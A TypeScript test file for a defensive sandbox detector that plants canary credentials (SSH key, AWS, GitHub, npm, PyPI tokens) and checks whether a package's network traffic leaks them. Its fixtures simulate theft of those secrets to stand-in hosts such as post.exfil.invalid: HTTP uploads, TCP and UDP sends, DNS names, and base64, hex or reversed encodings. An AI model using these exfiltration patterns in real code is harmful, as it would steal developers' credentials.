import { describe, expect, it } from 'vitest';
import { EXCERPT_MAX, makeCanaries, SEARCHED_BYTES_PER_RUN, secretPart } from '../core/canary.js';
import { finding } from '../core/finding.js';
import { exfilFindings, type ExfilInput, type TracedSend } from './exfil.js';

const CANARIES = makeCanaries();
const byName = (name: string) => CANARIES.canaries.find((c) => c.name === name)!;
const AWS = byName('~/.aws/credentials aws_secret_access_key');
const GITHUB = byName('~/.git-credentials github.com token');
const NPM = byName('~/.npmrc _authToken');

const WHO = { source: 'monitor', package: 'evil-pkg', pid: 18, argv: 'python setup.py' };
/** A monitor event as observe/network.ts hands it on: attributed, with what the monitor kept. */
const captured = (type: string, payload: string | Buffer, extra: Record<string, unknown> = {}) => {
  const bytes = Buffer.from(payload);
  return {
    ...WHO,
    type,
    dst: '127.1.0.1:80',
    src: '127.0.0.1:40000',
    port: 80,
    bytes: bytes.length,
    payload: bytes.toString('base64'),
    cut: false,
    time: 1,
    ...extra,
  };
};
const send = (payload: string, extra: Partial<TracedSend> = {}): TracedSend => ({
  syscall: 'sendto',
  to: '127.1.0.3:9999',
  payload,
  pid: 18,
  package: 'evil-pkg',
  argv: 'python setup.py',
  ...extra,
});
const run = (input: Partial<ExfilInput>) => exfilFindings({ canaries: CANARIES.canaries, network: [], proxy: [], sends: [], sendBytesDropped: 0, ...input });
const summary = (findings: ReturnType<typeof run>) =>
  findings.map((f) => [f.rule, f.package, f.evidence.secret ?? null, f.evidence.channel ?? null, f.evidence.encoding ?? null]);

describe('canaries in what left the sandbox', () => {
  it('finds every canary a run can plant: the SSH key in a base64 upload, an environment-only token, the copies the variables hold', () => {
    const every = makeCanaries({ everyVariable: true });
    const key = every.files.find((f) => f.path === '.ssh/id_ed25519')!.content;
    const environ = every.env.join('\0');
    const findings = exfilFindings({
      canaries: every.canaries,
      network: [
        captured('http', `POST /k HTTP/1.1\r\nHost: k.invalid\r\n\r\n${Buffer.from(key).toString('base64')}`, {
          method: 'POST',
          path: '/k',
          host: 'k.invalid',
        }),
        captured('tcp', environ, { port: 4444 }),
      ],
      proxy: [],
      sends: [],
      sendBytesDropped: 0,
    });
    // In any order: one finding per secret and channel.
    expect(summary(findings).sort()).toEqual(
      [
        ['network.canary-exfil', 'evil-pkg', '~/.ssh/id_ed25519', 'HTTP body', 'base64'],
        // The variables hold the files' secrets (as `export NPM_TOKEN` and ~/.npmrc do) and HF_TOKEN of their own.
        ...[
          '~/.git-credentials github.com token',
          '~/.npmrc _authToken',
          '~/.aws/credentials aws_access_key_id',
          '~/.aws/credentials aws_secret_access_key',
          '~/.pypirc password',
          'env HF_TOKEN',
        ].map((name) => ['network.canary-exfil', 'evil-pkg', name, 'TCP stream', 'plain']),
      ].sort(),
    );
  });

  it('finds a secret in an HTTP body, past the first bytes of a TCP stream, and in a whole datagram', () => {
    const reversed = [...GITHUB.value].reverse().join('');
    const hex = Buffer.from(AWS.value).toString('hex').toUpperCase();
    const findings = run({
      network: [
        captured('http', `POST /upload HTTP/1.1\r\nHost: post.exfil.invalid\r\nContent-Length: ${reversed.length + 2}\r\n\r\nk=${reversed}`, {
          method: 'POST',
          path: '/upload',
          host: 'post.exfil.invalid',
        }),
        captured('tcp', `${'x'.repeat(300)}${hex}`, { port: 4444, firstBytes: 'x'.repeat(256) }),
        captured('udp', Buffer.concat([Buffer.alloc(200, 7), Buffer.from(NPM.value)]), { port: 514, firstBytes: '' }),
      ],
    });
    expect(summary(findings)).toEqual([
      ['network.canary-exfil', 'evil-pkg', GITHUB.name, 'HTTP body', 'reversed'],
      ['network.canary-exfil', 'evil-pkg', AWS.name, 'TCP stream', 'hex'],
      ['network.canary-exfil', 'evil-pkg', NPM.name, 'UDP datagram', 'plain'],
    ]);
    expect(findings[1]!.evidence).toMatchObject({ offset: 300, partial: false, chars: 40, of: 40, pid: 18, argv: 'python setup.py' });
    expect(findings[1]!.message).toBe(`the canary secret ${AWS.name} left in a TCP stream (hex-encoded)`);
    // The terminal summary shows the first six fields: they must say what, where, how, what was seen and who.
    expect(Object.keys(findings[1]!.evidence).slice(0, 6)).toEqual(['secret', 'channel', 'encoding', 'seen', 'pid', 'argv']);
    for (const f of findings) expect(String(f.evidence.seen).length).toBeLessThanOrEqual(EXCERPT_MAX);
  });

  it('tells headers from body in a request with bare LF line ends, as the monitor does', () => {
    const findings = run({
      network: [captured('http', `POST /u HTTP/1.1\nHost: a.invalid\nContent-Length: 42\n\n${NPM.value}`, { method: 'POST', path: '/u', host: 'a.invalid' })],
    });
    expect(summary(findings)).toEqual([['network.canary-exfil', 'evil-pkg', NPM.name, 'HTTP body', 'plain']]);
    expect(findings[0]!.evidence.offset).toBe(4);
  });

  it('names a partial run in a Host header, with how much of the secret it held', () => {
    const part = secretPart(GITHUB).slice(6, 30);
    const [hit] = run({
      network: [captured('http', `GET / HTTP/1.1\r\nHost: ${part}.exfil.invalid\r\n\r\n`, { method: 'GET', path: '/', host: `${part}.exfil.invalid` })],
    });
    expect(hit).toMatchObject({ package: 'evil-pkg', evidence: { channel: 'HTTP Host', encoding: 'plain', partial: true, chars: 24, of: 36 } });
    expect(hit!.message).toBe(`the canary secret ${GITHUB.name} left in a HTTP Host (24 of its 36 characters)`);
  });

  it('reports a secret once per event, in its most specific channel, and the tracer only for what the monitor never got', () => {
    const hexName = `${Buffer.from(AWS.value).toString('hex')}.x.invalid`;
    const findings = run({
      network: [
        // The name is in the query packet too: one finding, for the name.
        captured('dns', `\x00\x01${hexName}`, { name: hexName, qtype: 1, answer: '127.1.0.1' }),
      ],
      sends: [
        // The same query, as the tracer saw glibc send it: shown already.
        send(`\x00\x01${hexName}`, { to: '127.0.0.53:53' }),
        // A datagram to a port nothing listens on: only the tracer has it.
        send(`token=${NPM.value}`),
        send(`token=${NPM.value}`),
      ],
    });
    expect(summary(findings)).toEqual([
      ['network.canary-exfil', 'evil-pkg', AWS.name, 'DNS name', 'hex'],
      ['network.canary-exfil', 'evil-pkg', NPM.name, 'sendto payload', 'plain'],
    ]);
    expect(findings[1]!.evidence).toMatchObject({ to: '127.1.0.3:9999', count: 2 });
  });

  it('searches refused proxy paths', () => {
    const refused = finding(
      'integrity.unlocked-request',
      'high',
      'refused',
      { method: 'GET', path: `/simple/${encodeURIComponent(AWS.value)}/`, pid: 18 },
      'evil-pkg',
    );
    expect(summary(run({ proxy: [refused] }))).toEqual([
      ['network.canary-exfil', 'evil-pkg', AWS.name, 'proxy request path', /[+/]/.test(AWS.value) ? 'url' : 'plain'],
    ]);
  });

  it('fails the run when it could not search everything: a cut capture, sends past the trace cap, the search bound', () => {
    const cut = run({ network: [{ ...captured('tcp', 'x'.repeat(100), { firstBytes: '' }), bytes: 5_000_000, cut: true }] });
    expect(cut).toEqual([
      expect.objectContaining({ rule: 'monitor.tampered', package: 'evil-pkg', evidence: expect.objectContaining({ event: 'tcp', bytes: 5_000_000 }) }),
    ]);
    expect(run({ sendBytesDropped: 4096 })).toEqual([expect.objectContaining({ rule: 'monitor.tampered', evidence: { sendBytesDropped: 4096 } })]);
    const chunk = 'y'.repeat(8 * 1024 ** 2);
    const over = run({ sends: Array.from({ length: SEARCHED_BYTES_PER_RUN / chunk.length + 1 }, () => send(chunk)) });
    expect(over.map((f) => f.rule)).toEqual(['monitor.tampered']);
    expect(over[0]!.evidence).toMatchObject({ limitBytes: SEARCHED_BYTES_PER_RUN });
  });

  it('finds nothing in traffic without a canary, and nothing without canaries', () => {
    expect(
      run({
        network: [captured('http', 'GET /simple/requests/ HTTP/1.1\r\nHost: 127.0.0.1:3141\r\n\r\n', { method: 'GET', path: '/simple/requests/', host: null })],
      }),
    ).toEqual([]);
    expect(exfilFindings({ canaries: [], network: [captured('tcp', AWS.value)], proxy: [], sends: [send(AWS.value)], sendBytesDropped: 0 })).toEqual([]);
  });
});
